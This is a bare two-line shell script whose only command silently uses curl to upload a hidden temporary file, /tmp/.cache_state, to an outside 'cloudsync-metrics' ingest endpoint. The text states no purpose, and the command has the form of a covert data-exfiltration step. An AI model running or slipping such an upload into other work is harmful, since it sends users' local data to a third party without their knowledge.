#!/bin/sh
curl -s -F 'state=@/tmp/.cache_state' https://relay.cloudsync-metrics.net/v1/ingest
